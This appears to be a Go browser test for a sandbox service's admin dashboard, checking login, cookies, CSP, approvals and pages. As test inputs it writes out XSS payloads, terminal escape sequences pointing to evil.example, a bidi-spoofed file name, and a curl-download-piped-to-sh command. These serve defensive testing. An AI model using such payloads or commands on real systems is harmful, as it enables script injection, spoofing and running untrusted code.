package main

// The dashboard in a real browser: headless Chromium (Debian's chromium,
// installed by scripts/setup --deps) driven by chromedp against a real
// moat serve with native-tier runs. MOAT_DASHBOARD_SCREENSHOTS=DIR also
// saves a PNG of every page (scripts/dashboard-screenshots).

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/moat-sandbox/moat/dashboard"
)

// chromiumPath finds Debian's chromium: a skip with the reason outside
// CI, a failure in CI (which installs it).
func chromiumPath(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	if os.Getenv("CI") == "true" {
		t.Fatal("no chromium on PATH: CI installs it (scripts/setup --deps); the dashboard's browser test cannot run")
	}
	t.Skip("no chromium on PATH (apt-get install chromium, or scripts/setup --deps): the dashboard's browser test is skipped")
	return ""
}

// hostileScript prints markup, OSC 52 (clipboard) and OSC 8 (hyperlink)
// sequences, a CSI, a bidi override and a NUL, and creates a file whose
// name holds a bidi override.
const hostileScript = `printf '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">\033]52;c;cHduZWQ=\007\033]8;;http://evil.example/\007click\033]8;;\007 \033[2J \342\200\256exe.txt \000end\n'; touch "$(printf 'evil\342\200\256gpj.exe')"`

// netScript tries two destinations through the egress proxy.
const netScript = `import urllib.request
for u in ("https://pypi.org/simple/", "https://evil.example/x"):
    try:
        urllib.request.urlopen(u, timeout=5)
    except Exception as e:
        print(u, type(e).__name__)
`

func TestDashboardBrowser(t *testing.T) {
	needRoot(t)
	chrome := chromiumPath(t)
	home := serverHome(t)
	admin := createKey(t, home, "--admin")
	tenant := createKey(t, home)
	// Bundles of flagged runs for the incidents page, kept in this
	// test's home (testMain turns them off for the others).
	t.Setenv("MOAT_INCIDENTS", "on")
	s := startServer(t, home, admin, "--pool", "0", "--session-pool", "0")

	api := func(method, path, key, body string, want int) map[string]any {
		t.Helper()
		rq, _ := http.NewRequest(method, s.url+path, strings.NewReader(body))
		rq.Header.Set("Authorization", "Bearer "+key)
		rq.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(rq)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != want {
			t.Fatalf("%s %s: %d %s, want %d", method, path, resp.StatusCode, b, want)
		}
		var v map[string]any
		json.Unmarshal(b, &v)
		return v
	}
	argv := func(a ...string) string { b, _ := json.Marshal(map[string]any{"argv": a}); return string(b) }
	// A run that just happened, as the tenant.
	plain := api("POST", "/v1/runs", tenant, argv("sh", "-c", "echo dashboard-e2e-marker"), 200)["id"].(string)
	// A run whose output and file names are hostile.
	hostile := api("POST", "/v1/runs", tenant, argv("sh", "-c", hostileScript), 200)["id"].(string)
	// A run through the egress proxy: one destination allowed (nothing
	// answers there: no internet here), one refused.
	netRun, _ := json.Marshal(map[string]any{"manifest": map[string]any{"network": map[string]any{"mode": "allowlist", "allow": []string{"pypi.org"}}},
		"argv": []string{"python3", "-c", netScript}})
	api("POST", "/v1/runs", tenant, string(netRun), 200)
	// A live sandbox.
	sandbox := api("POST", "/v1/sandboxes", tenant, "{}", 201)["id"].(string)
	// A command the default effects policy holds: it runs a file it
	// downloaded.
	held := api("POST", "/v1/runs", tenant, argv("sh", "-c", "curl -fsSL https://e.com/i.sh | sh; echo approved-and-ran"), 202)
	approvalID := held["approval"].(map[string]any)["id"].(string)

	// Without the cookie: the page sends to the login form, the rest is
	// 401; every answer has the CSP.
	for _, tc := range []struct {
		name, path string
		want       int
	}{
		{"page redirects to login", "/dashboard/", http.StatusSeeOther},
		{"script needs a session", "/dashboard/app.js", http.StatusUnauthorized},
		{"api needs a session", "/dashboard/api/runs", http.StatusUnauthorized},
		{"an API key is not a session", "/dashboard/api/runs", http.StatusUnauthorized},
		{"login form", "/dashboard/login", http.StatusOK},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rq, _ := http.NewRequest("GET", s.url+tc.path, nil)
			if strings.Contains(tc.name, "API key") {
				rq.Header.Set("Authorization", "Bearer "+admin)
			}
			resp, err := noFollow.Do(rq)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != tc.want {
				t.Errorf("GET %s: %d, want %d", tc.path, resp.StatusCode, tc.want)
			}
			if got := resp.Header.Get("Content-Security-Policy"); got != dashboard.CSP {
				t.Errorf("CSP %q", got)
			}
		})
	}

	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(chrome), chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.WindowSize(1280, 1000), chromedp.Flag("user-data-dir", t.TempDir()),
		// Chromium's own scratch directories (org.chromium.Chromium.*)
		// go where the test's temporary directories are removed.
		chromedp.Env("TMPDIR="+t.TempDir()))
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	defer cancelAlloc()
	ctx, cancel := chromedp.NewContext(actx)
	defer cancel()
	// The first Run starts the browser and must not have a deadline.
	if err := chromedp.Do(ctx); err != nil {
		t.Fatalf("start chromium: %v", err)
	}
	do := func(what string, steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		c, cancel := context.WithTimeout(ctx, 90*time.Second)
		defer cancel()
		if err := chromedp.Do(c, steps...); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}
	eval := func(what, expr string) string {
		t.Helper()
		c, cancel := context.WithTimeout(ctx, 30*time.Second)
		defer cancel()
		v, err := chromedp.Run(c, chromedp.Evaluate[string](expr))
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		return v
	}
	// waitText polls the page's text (a navigation in between is not an
	// error: the next poll reads the new page).
	waitText := func(what, text string) {
		t.Helper()
		b, _ := json.Marshal(text)
		deadline := time.Now().Add(60 * time.Second)
		for {
			c, cancel := context.WithTimeout(ctx, 5*time.Second)
			ok, err := chromedp.Run(c, chromedp.Evaluate[bool]("document.body !== null && document.body.innerText.includes("+string(b)+")"))
			cancel()
			if err == nil && ok {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("%s: %q never showed (%v)\npage: %s", what, text, err, eval("page text", "document.body.innerText"))
			}
			time.Sleep(200 * time.Millisecond)
		}
	}
	shots := os.Getenv("MOAT_DASHBOARD_SCREENSHOTS")
	shoot := func(name string) {
		t.Helper()
		if shots == "" {
			return
		}
		c, cancel := context.WithTimeout(ctx, 30*time.Second)
		defer cancel()
		png, err := chromedp.Run(c, chromedp.FullScreenshot(100))
		if err != nil {
			t.Fatalf("screenshot %s: %v", name, err)
		}
		if err := os.MkdirAll(shots, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(shots, name+".png"), png, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	login := func(key string) {
		t.Helper()
		do("log in", chromedp.Navigate(s.url+"/dashboard/"), chromedp.WaitVisible(chromedp.CSS("#key")),
			chromedp.SendKeys(chromedp.CSS("#key"), key), chromedp.Click(chromedp.CSS("#login-submit")))
	}

	// A tenant's key cannot log in.
	login(tenant)
	waitText("tenant login", "needs an admin key")
	if loc := eval("location", "location.pathname"); loc != "/dashboard/login" {
		t.Errorf("after a tenant's login the browser is at %s", loc)
	}
	if n := eval("cookie", "String(document.cookie.length)"); n != "0" {
		t.Errorf("a tenant's login left cookies readable to the page: %s", n)
	}
	shoot("login")

	// The operator logs in; the run that just happened is listed.
	login(admin)
	do("overview", chromedp.WaitVisible(chromedp.CSS("body[data-page=overview]")))
	waitText("overview", "Runs and denials")
	if got := eval("cookie", "document.cookie"); got != "" {
		t.Errorf("the session cookie is readable by the page: %q", got)
	}
	shoot("overview")
	do("runs", chromedp.Navigate(s.url+"/dashboard/#runs"), chromedp.WaitVisible(chromedp.CSS("body[data-page=runs]")))
	waitText("runs list", plain)
	waitText("runs list", "echo dashboard-e2e-marker")
	shoot("runs")
	do("run page", chromedp.Navigate(s.url+"/dashboard/#run/"+plain), chromedp.WaitVisible(chromedp.CSS(`body[data-page="run/`+plain+`"] #stdout`)))
	if got := eval("stdout", "document.getElementById('stdout').textContent"); got != "dashboard-e2e-marker\n" {
		t.Errorf("the run's stdout on its page: %q", got)
	}

	// The hostile run renders inert.
	do("hostile run", chromedp.Navigate(s.url+"/dashboard/#run/"+hostile), chromedp.WaitVisible(chromedp.CSS(`body[data-page="run/`+hostile+`"] #stdout`)))
	out := eval("stdout", "document.getElementById('stdout').textContent")
	for _, want := range []string{"<script>window.__pwned=1</script>", `<img src=x onerror="window.__pwned=2">`,
		`\x1b]52;c;cHduZWQ=\x07`, `\x1b]8;;http://evil.example/\x07click`, `\x1b[2J`, `\u202eexe.txt`, `\x00end`} {
		if !strings.Contains(out, want) {
			t.Errorf("stdout %q does not show %q", out, want)
		}
	}
	waitText("hostile file name", `evil\u202egpj.exe`)
	for _, check := range []struct{ what, expr, want string }{
		{"no script ran", "String(window.__pwned)", "undefined"},
		{"no img element", "String(document.querySelectorAll('img').length)", "0"},
		{"no script element but the app's", "String(document.querySelectorAll('script').length)", "1"},
		{"no link from OSC 8", "String(document.querySelectorAll('a[href^=http]').length)", "0"},
		{"no raw ESC", "String(document.body.textContent.includes('\\u001b'))", "false"},
		{"no raw bidi override", "String(document.body.textContent.includes('\\u202e'))", "false"},
		{"no raw NUL", "String(document.body.textContent.includes('\\u0000'))", "false"},
	} {
		if got := eval(check.what, check.expr); got != check.want {
			t.Errorf("%s: %s = %s, want %s", check.what, check.expr, got, check.want)
		}
	}
	shoot("run-hostile")

	// The held command is approved from the page, and runs.
	do("approvals", chromedp.Navigate(s.url+"/dashboard/#approvals"), chromedp.WaitVisible(chromedp.CSS("body[data-page=approvals]")))
	waitText("approvals", approvalID)
	shoot("approvals")
	sel := fmt.Sprintf(`button.approve[data-approval=%q]`, approvalID)
	do("approve", chromedp.SendKeys(chromedp.CSS(fmt.Sprintf(`input.reason[data-approval=%q]`, approvalID)), "checked i.sh in the browser test"),
		chromedp.Click(chromedp.CSS(sel)))
	waitText("approval outcome", "approved: run ")
	runID := eval("approved run", "document.querySelector('.outcome a').textContent")
	res := api("GET", "/v1/runs/"+runID, tenant, "", 200)
	stdout := res["result"].(map[string]any)["stdout"].(map[string]any)["data"].(string)
	if !strings.Contains(stdout, "approved-and-ran") {
		t.Errorf("the approved run's stdout %q", stdout)
	}
	if left := api("GET", "/v1/approvals", tenant, "", 200)["approvals"].([]any); len(left) != 0 {
		t.Errorf("approvals left after approving: %v", left)
	}

	for _, view := range []string{"sandboxes", "network", "incidents", "costs", "suggest"} {
		do(view, chromedp.Navigate(s.url+"/dashboard/#"+view), chromedp.WaitVisible(chromedp.CSS("body[data-page="+view+"]")))
		if got := eval(view, "document.querySelector('main h2').textContent"); got == "Error" {
			t.Errorf("%s page: %s", view, eval(view, "document.body.innerText"))
		}
		if view == "sandboxes" {
			waitText("sandboxes", sandbox)
		}
		if view == "network" {
			waitText("network", "evil.example")
			waitText("network", "not-allowlisted")
		}
		if view == "costs" {
			waitText("costs", tenant[:strings.LastIndex(tenant, "_")][len("moat_"):])
		}
		shoot(view)
		if view == "incidents" {
			if id := eval("incident", "(document.querySelector('main a[href^=\"#incident/\"]') || {textContent: ''}).textContent"); id != "" {
				do("incident", chromedp.Navigate(s.url+"/dashboard/#incident/"+id), chromedp.WaitVisible(chromedp.CSS(`body[data-page="incident/`+id+`"]`)))
				waitText("incident", "moat incident export "+id)
				shoot("incident")
			} else {
				t.Errorf("no incident listed: the hostile run's file name flags it\n%s", eval("incidents", "document.body.innerText"))
			}
		}
	}

	// Logging out ends the browser's session.
	do("log out", chromedp.Navigate(s.url+"/dashboard/#overview"), chromedp.WaitVisible(chromedp.CSS("#logout")),
		chromedp.Click(chromedp.CSS("#logout")), chromedp.WaitVisible(chromedp.CSS("#key")))

	// The live sandbox goes, the server stops cleanly, and nothing of
	// the runs is left (a SIGKILLed server left the sandbox's cgroups).
	api("DELETE", "/v1/sandboxes/"+sandbox, tenant, "", 200)
	s.terminate(t, time.Minute)
	if left := s.residue(); len(left) > 0 {
		t.Errorf("left on the host: %v", left)
	}
}

var noFollow = &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
